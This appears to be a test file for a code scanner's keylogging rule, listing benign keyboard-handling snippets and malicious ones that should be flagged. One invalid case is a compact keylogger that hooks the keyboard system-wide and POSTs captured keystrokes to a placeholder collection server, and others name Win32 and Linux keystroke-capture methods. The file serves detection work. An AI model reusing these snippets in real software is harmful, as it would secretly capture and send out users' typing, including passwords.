import rule from '../../rules/keylogging.ts'
import { RuleTester } from '../../src/rule-tester/index.ts'

new RuleTester().run(rule, {
  valid: [
    { name: 'a CLI reading keys from its own terminal', code: "const readline = require('readline')\nreadline.emitKeypressEvents(process.stdin)\nprocess.stdin.setRawMode(true)\nprocess.stdin.on('keypress', (s, key) => { if (key.name === 'q') process.exit() })" },
    { name: 'a keyboard-shortcut library for the browser', code: "document.addEventListener('keydown', (e) => { if (e.ctrlKey && e.key === 's') save() })" },
    { name: 'probing whether an input device exists', code: "require('fs').existsSync('/dev/input/event0')" },
  ],
  invalid: [
    {
      name: 'a global hook whose keys go to a server: high',
      code: "const ioHook = require('iohook')\nconst https = require('https')\nlet keys = ''\nioHook.on('keydown', (e) => { keys += e.keycode })\nsetInterval(() => https.request('https://collect.example.com/k', { method: 'POST' }).end(keys), 60000)\nioHook.start()",
      errors: [{ severity: 'high', line: 1, message: /^Captures keystrokes system-wide: the code loads iohook, a global keyboard hook, in a file that also uses the network/ }],
    },
    {
      name: 'Win32 GetAsyncKeyState through an FFI module: medium',
      code: "const koffi = require('koffi')\nconst user32 = koffi.load('user32.dll')\nconst GetAsyncKeyState = user32.func('short GetAsyncKeyState(int vKey)')",
      errors: [{ severity: 'medium', message: /names the Win32 keyboard-capture API GetAsyncKeyState/ }],
    },
    {
      name: 'an ES module importing a global hook, no network: medium',
      filename: 'hook.mjs',
      code: "import { uIOhook } from 'uiohook-napi'\nuIOhook.on('keydown', (e) => log.push(e.keycode))\nuIOhook.start()",
      errors: [{ severity: 'medium', line: 1, message: /loads uiohook-napi, a global keyboard hook\./ }],
    },
    {
      name: 'reading a Linux input device',
      code: "const fs = require('fs')\nconst stream = fs.createReadStream('/dev/input/event3')",
      errors: [{ severity: 'medium', message: /reads \/dev\/input\/event3, a raw input device/ }],
    },
  ],
})
